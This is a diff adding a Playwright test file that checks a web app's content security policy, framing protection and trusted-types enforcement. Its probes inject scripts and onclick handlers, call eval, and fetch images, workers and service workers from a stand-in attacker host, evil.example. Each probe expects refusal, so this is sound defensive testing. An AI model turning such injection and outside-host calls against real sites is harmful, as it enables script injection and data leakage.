@@ -1,0 +1,108 @@
+import { expect, test } from './fixtures.ts';
+
+/** Gathers what the content security policy refused, in every page. */
+const watchViolations = `
+  window.violations = [];
+  document.addEventListener('securitypolicyviolation', (event) =>
+    window.violations.push(event.effectiveDirective + ' ' + event.blockedURI));
+`;
+
+test.describe('what the page refuses', () => {
+  const watching = {
+    prepare: (context: { addInitScript: (script: string) => Promise<unknown> }) =>
+      context.addInitScript(watchViolations),
+  };
+
+  test('[RX-09] a normal run through login and every kind of screen has no violation of the policy', async ({
+    site,
+  }) => {
+    await site.inApp(async (app) => {
+      const seen = (): Promise<readonly string[]> => app.page.evaluate('window.violations');
+      await app.open('/releaseNotesBatBot');
+      expect(await seen()).toEqual([]);
+      await app.login('ada');
+      await app.tab('Terminal', 'terminal');
+      await app.connect('Simulated device');
+      await app.type('ATI');
+      await app.log.getByText(/HW:/).waitFor();
+      await app.tab('Home', 'home');
+      await app.page.getByLabel('Cell 1', { exact: true }).first().waitFor();
+      await app.tab('Users', 'users');
+      await app.page.getByRole('link', { name: 'Logout', exact: true }).click();
+      await app.page.getByRole('dialog').waitFor();
+      expect(await seen()).toEqual([]);
+    }, watching);
+  });
+
+  test('[RX-06] inline scripts, eval, foreign connections and pictures are blocked', async ({
+    site,
+  }) => {
+    await site.inApp(async ({ page, open }) => {
+      await open('/login');
+      const outcome = await page.evaluate(`(async () => {
+        const script = document.createElement('script');
+        let typed = 'accepted';
+        try { script.text = 'window.pwned = true'; } catch { typed = 'refused'; }
+        document.body.append(script);
+        const inline = document.createElement('p');
+        try { inline.setAttribute('onclick', 'window.pwned = true'); } catch {} // refused even earlier
+        document.body.append(inline);
+        inline.click();
+        // Later, in a task of the page: while DevTools evaluate, eval is allowed to them.
+        const evaluated = await new Promise((resolve) => setTimeout(() => {
+          try { new Function('window.pwned = true')(); resolve('ran'); } catch { resolve('refused'); }
+        }));
+        const fetched = await fetch('https://evil.example/').then(() => 'sent', () => 'refused');
+        const image = new Image();
+        const loaded = await new Promise((resolve) => {
+          image.onload = () => resolve('loaded');
+          image.onerror = () => resolve('refused');
+          image.src = 'https://evil.example/x.png';
+        });
+        return [typed, evaluated, fetched, loaded, String(window.pwned)];
+      })()`);
+      expect(outcome).toEqual(['refused', 'refused', 'refused', 'refused', 'undefined']);
+      const seen = await page.evaluate<readonly string[]>('window.violations');
+      for (const directive of ['connect-src https://evil.example/', 'img-src https://evil.example'])
+        expect(seen.some((each) => each.startsWith(directive))).toBe(true);
+    }, watching);
+  });
+
+  test('[RX-07] [PU-15] markup from a string, a foreign worker and a second policy are TypeErrors; our own worker registers', async ({
+    app: { page, open },
+  }) => {
+    await open('/login');
+    const names = await page.evaluate(`(async () => {
+        const tried = async (attempt) => {
+          try { await attempt(); return 'done'; } catch (problem) { return problem.name; }
+        };
+        return [
+          await tried(() => { document.body.innerHTML = '<img src=x>'; }),
+          await tried(() => new Worker('https://evil.example/w.js')),
+          await tried(() => trustedTypes.createPolicy('evil', { createHTML: (text) => text })),
+          await tried(() => navigator.serviceWorker.register('https://evil.example/sw.js')),
+          await tried(() => navigator.serviceWorker.register('/firebase-messaging-sw.js', { scope: '/firebase-cloud-messaging-push-scope' })),
+        ];
+      })()`);
+    expect(names).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'done']);
+  });
+
+  test('[RX-08] another site cannot frame the app', async ({ site }) => {
+    await site.inApp(
+      async ({ page }) => {
+        await page.goto('http://frames.example/');
+        await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
+        expect(await page.frames().at(-1)?.locator('body').innerText()).not.toContain('Welcome');
+      },
+      {
+        prepare: (context) =>
+          context.route('http://frames.example/', (route) =>
+            route.fulfill({
+              contentType: 'text/html',
+              body: `<iframe src="${site.webUrl}/login" width="800" height="600"></iframe>`,
+            }),
+          ),
+      },
+    );
+  });
+});
